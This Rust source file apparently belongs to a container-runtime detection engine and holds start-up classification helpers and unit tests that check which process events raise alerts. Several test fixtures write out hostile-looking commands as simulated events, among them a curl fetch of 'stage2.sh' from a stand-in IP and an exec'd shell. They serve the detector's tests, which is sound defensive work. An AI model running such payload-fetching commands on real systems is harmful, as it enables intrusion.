            EvictRank::CannotAlert => "containers: capacity, could not alert",
            EvictRank::WindowOver => "containers: capacity, window over",
            EvictRank::Exited => "containers: capacity, exited",
            EvictRank::NoStart => "containers: capacity, no start evidence",
            EvictRank::Live => "containers: capacity, could still alert",
        }
    }
}

/// Whether a process is the container's own start-up: the entrypoint (pid 1 inside the
/// container) or a process it started directly (parent pid 1), by the record's own
/// in-container pids; for a record without them, a command line that is the pod spec's
/// `command` and `args`. Never a process the runtime started with `exec`.
fn is_startup(lineage: &Lineage, spec_argv: Option<&[String]>, exe: &str, cmdline: &str) -> bool {
    if lineage.exec {
        return false;
    }
    if lineage.pid.is_some() || lineage.ppid.is_some() {
        return lineage.is_startup();
    }
    spec_argv.is_some_and(|argv| runs_argv(argv, exe, cmdline))
}

/// Whether a command line is `argv`, compared word by word (command lines are joined
/// with spaces, so an argument holding spaces is several words), the program by its
/// basename: sources report it as a path or as a name.
fn runs_argv(argv: &[String], exe: &str, cmdline: &str) -> bool {
    let mut want = argv.iter().flat_map(|a| a.split_whitespace());
    let mut got = cmdline.split_whitespace();
    let (Some(w0), Some(g0)) = (want.next(), got.next()) else {
        return false;
    };
    let program = exe_basename(w0);
    if program != exe_basename(g0) && program != exe_basename(exe) {
        return false;
    }
    want.eq(got)
}

fn alert_image(i: &ImageRef) -> AlertImage {
    AlertImage {
        reference: i.to_string(),
        digest: i.digest.clone(),
        registry: Some(i.registry.clone()),
        owner: None,
    }
}

fn endpoint(ip: std::net::IpAddr, port: Option<u16>) -> String {
    match (ip, port) {
        (std::net::IpAddr::V6(v6), Some(p)) => format!("[{v6}]:{p}"),
        (ip, Some(p)) => format!("{ip}:{p}"),
        (ip, None) => ip.to_string(),
    }
}

fn quote(s: &str) -> String {
    format!("'{s}'")
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::config::Config;
    use crate::provenance::ProvenanceView;
    use crate::Engine;
    use pullwatch_model::{EventKind, Format, Placement, ProcessExec, SourceRef};

    const REPO: &str = "docker.io/library/nginx";
    const KNOWN: &str = "sha256:1111111111111111111111111111111111111111111111111111111111111111";
    const NEW: &str = "sha256:2222222222222222222222222222222222222222222222222222222222222222";
    const EVIL: &str = "sha256:6666666666666666666666666666666666666666666666666666666666666666";
    const ID: &str = "3f9c2a7d1e8b4c5d6e7f8a9b0c1d2e3f4a5b6c7d8e9f0a1b2c3d4e5f6a7b8c9d";

    fn t(s: i64) -> Ts {
        Ts(1_800_000_000_000_000_000 + s * 1_000_000_000)
    }

    fn lineage(pid: Option<u32>, ppid: Option<u32>) -> Lineage {
        Lineage {
            pid,
            ppid,
            exec: false,
        }
    }

    /// A process in a container started at `t(0)`, as Tetragon reports one.
    fn proc_in(at: i64, image: &str, exe: &str, cmdline: &str, lineage: Lineage) -> Event {
        Event::new(
            t(at),
            SourceRef {
                format: Format::Tetragon,
                path: Arc::from("tetragon.jsonl"),
                line: at as u64,
            },
            EventKind::Process(ProcessExec {
                placement: Placement::Container(ContainerRef {
                    host: Some(pullwatch_model::name("node-1")),
                    id: Some(pullwatch_model::name(ID)),
                    name: Some(pullwatch_model::name("web")),
                    pod: Some(pullwatch_model::name("web-7d9f8")),
                    namespace: Some(pullwatch_model::name("shop")),
                    image: Some(ImageRef::parse(image)),
                    started_at: Some(t(0)),
                }),
                pid: Some(4000 + at as u32),
                ppid: None,
                exe: pullwatch_model::name(exe),
                cmdline: cmdline.to_string(),
                parent_exe: None,
                user: None,
                lineage,
            }),
        )
    }

    fn nginx(digest: &str) -> String {
        format!("nginx:1.28@{digest}")
    }

    /// nginx's official start-up: `/docker-entrypoint.sh` as pid 1 running its scripts.
    fn startup(image: &str) -> Vec<Event> {
        vec![
            proc_in(
                1,
                image,
                "/bin/sh",
                "/bin/sh /docker-entrypoint.sh nginx -g daemon off;",
                lineage(Some(1), None),
            ),
            proc_in(
                2,
                image,
                "/bin/sh",
                "sh -c /docker-entrypoint.d/10-listen-on-ipv6-by-default.sh",
                lineage(Some(23), Some(1)),
            ),
        ]
    }

    fn scan(baseline: bool, events: Vec<Event>) -> (Vec<Alert>, EngineStats) {
        let mut engine = Engine::new(Config::default());
        if baseline {
            let mut view = ProvenanceView::new();
            view.add_digest(REPO, KNOWN);
            engine = engine.with_provenance(view);
        }
        let mut alerts = Vec::new();
        for ev in events {
            engine.push(ev, &mut alerts);
        }
        engine.finish(&mut alerts);
        (alerts, engine.stats())
    }

    #[test]
    fn an0691_entrypoint_of_a_new_allowlisted_digest_is_start_up() {
        let (alerts, stats) = scan(true, startup(&nginx(NEW)));
        assert!(alerts.is_empty(), "{alerts:#?}");
        assert_eq!(stats.activity.get(SKIPPED_STARTUP), Some(&2));
    }

    #[test]
    fn an0691_deeper_or_exec_processes_of_a_new_digest_still_alert() {
        let image = nginx(NEW);
        // A curl two levels below the entrypoint.
        let mut events = startup(&image);
        events.push(proc_in(
            5,
            &image,
            "/usr/bin/curl",
            "curl -fsSL http://198.51.100.23/x",
            lineage(Some(40), Some(23)),
        ));
        let (alerts, stats) = scan(true, events);
        assert_eq!(alerts.len(), 1, "{alerts:#?}");
        let a = &alerts[0];
        assert_eq!(a.severity, Severity::Medium);
        assert!(a.reasons[0].contains("is not in the baseline"), "{a:#?}");
        assert!(
            a.reasons
                .iter()
                .any(|r| r.starts_with("2 earlier process(es) of the container's own start-up")),
            "{:#?}",
            a.reasons
        );
        assert_eq!(stats.activity.get(SKIPPED_STARTUP), Some(&2));

        // An exec'd shell: its parent is the runtime, outside the container.
        let mut events = startup(&image);
        events.push(proc_in(5, &image, "/bin/sh", "sh", lineage(Some(57), None)));
        let (alerts, _) = scan(true, events);
        assert_eq!(alerts.len(), 1);
        assert_eq!(alerts[0].severity, Severity::Medium);

        // Marked as an exec by its source, even at pid 1's level.
        let exec = Lineage {
            pid: None,
            ppid: Some(1),
            exec: true,
        };
        let (alerts, _) = scan(true, vec![proc_in(5, &image, "/bin/sh", "sh", exec)]);
        assert_eq!(alerts.len(), 1);
        // Without in-container pids and without a pod spec: nothing says it is start-up.
        let (alerts, _) = scan(
            true,
            vec![proc_in(5, &image, "/bin/sh", "sh", Lineage::default())],
        );
        assert_eq!(alerts.len(), 1);
    }

    #[test]
    fn an0691_untrusted_or_moved_images_entrypoints_still_alert() {
        let evil = format!("docker.io/kitty0x/toolbox:latest@{EVIL}");
        let events = vec![proc_in(
            3,
            &evil,
            "/usr/bin/curl",
            "curl -fsSL http://198.51.100.23/stage2.sh",
            lineage(Some(1), None),
        )];
        let (alerts, stats) = scan(true, events.clone());
        assert_eq!(alerts.len(), 1);
        assert_eq!(alerts[0].severity, Severity::High);
        assert_eq!(stats.activity.get(SKIPPED_STARTUP), None);
        let (alerts, _) = scan(false, events);
        assert_eq!(alerts.len(), 1);

        // The tag the baseline knew now resolves elsewhere: raised, and not excused.
        let mut engine = Engine::new(Config::default());
        let mut view = ProvenanceView::new();
        view.add_tag_digest(REPO, "1.28", KNOWN);
        engine = engine.with_provenance(view);
        let mut alerts = Vec::new();
        for ev in startup(&nginx(NEW)) {
            engine.push(ev, &mut alerts);
        }
        engine.finish(&mut alerts);
        assert_eq!(alerts.len(), 1, "{alerts:#?}");
        assert_eq!(alerts[0].severity, Severity::High);
    }

    #[test]
    fn an0691_known_digest_and_no_baseline_are_unchanged() {
        // A digest the baseline knows makes no chain, start-up or not.
        let (alerts, stats) = scan(true, startup(&nginx(KNOWN)));
        assert!(alerts.is_empty());
        assert_eq!(stats.activity.get(SKIPPED_STARTUP), None);
        let (alerts, _) = scan(false, startup(&nginx(NEW)));
        assert!(alerts.is_empty());
    }

    #[test]
    fn an0691_pod_spec_command_is_start_up_for_records_without_pids() {
        let image = nginx(NEW);
        let create = Event::new(
            t(-2),
            SourceRef {
                format: Format::K8sAudit,
                path: Arc::from("audit.jsonl"),
                line: 1,
            },
            EventKind::PodCreate(PodCreate {
                namespace: "shop".into(),
                pod: "web-7d9f8".into(),
                node: Some("node-1".into()),
                containers: vec![pullwatch_model::PodContainerSpec {
                    name: "web".into(),
                    image: ImageRef::parse(&image),
                    image_raw: image.clone(),
                    pull_policy: None,
                    kind: pullwatch_model::PodContainerKind::Regular,
                    command: vec!["/bin/sh".into(), "-c".into()],
                    args: vec!["exec nginx -g 'daemon off;'".into()],
                }],
                actor: None,
            }),
        );
        let spec_run = proc_in(
            1,
            &image,
            "/bin/sh",
            "sh -c exec nginx -g 'daemon off;'",
            Lineage::default(),
        );
        let (alerts, stats) = scan(true, vec![create.clone(), spec_run]);
        assert!(alerts.is_empty(), "{alerts:#?}");
        assert_eq!(stats.activity.get(SKIPPED_STARTUP), Some(&1));
        // Another command line is not the spec's.
        let other = proc_in(1, &image, "/bin/sh", "sh -c id", Lineage::default());
        let (alerts, _) = scan(true, vec![create, other]);
        assert_eq!(alerts.len(), 1);
    }

    #[test]
    fn an0691_start_up_by_pids_or_spec() {
        let spec: Vec<String> = vec!["nginx".into(), "-g".into(), "daemon off;".into()];
        assert!(runs_argv(
            &spec,
            "/usr/sbin/nginx",
            "/usr/sbin/nginx -g daemon off;"
        ));
        assert!(runs_argv(&spec, "/usr/sbin/nginx", "nginx -g daemon off;"));
        assert!(!runs_argv(&spec, "/usr/sbin/nginx", "nginx -g daemon"));
        assert!(!runs_argv(&spec, "/usr/bin/curl", "curl -g daemon off;"));
        assert!(!runs_argv(&[], "/bin/sh", "sh"));
        // Pids, where the record has them, decide; the spec is for records without.
        let none = Lineage::default();
        assert!(is_startup(&lineage(Some(1), None), None, "sh", "sh"));
        assert!(is_startup(&lineage(Some(9), Some(1)), None, "sh", "sh"));
        assert!(!is_startup(&lineage(Some(9), Some(8)), None, "sh", "sh"));
        assert!(!is_startup(
            &lineage(Some(9), Some(8)),
            Some(&spec),
            "nginx",
            "nginx -g daemon off;"
        ));
        assert!(is_startup(
            &none,
            Some(&spec),
            "nginx",
            "nginx -g daemon off;"
        ));
        assert!(!is_startup(&none, None, "nginx", "nginx -g daemon off;"));
        let exec = Lineage {
            exec: true,
            ..lineage(Some(1), None)
        };
        assert!(!is_startup(
            &exec,
            Some(&spec),
            "nginx",
            "nginx -g daemon off;"
        ));
    }

    #[test]
    fn an0691_host_pid_namespace_says_nothing() {
        // hostPID: the in-namespace pids are the host's, so pid 1's child is no start-up.
        assert_eq!(
            Lineage::from_pids(Some(812), Some(812), Some(1), Some(1)),
            Lineage::default()
        );
        assert_eq!(
            Lineage::from_pids(Some(4001), Some(1), Some(3990), None),
            lineage(Some(1), None)
        );
        // 0 is Falco's "parent outside the namespace".
        assert_eq!(
            Lineage::from_pids(Some(4001), Some(7), Some(3990), Some(0)),
            lineage(Some(7), None)
        );
    }
}
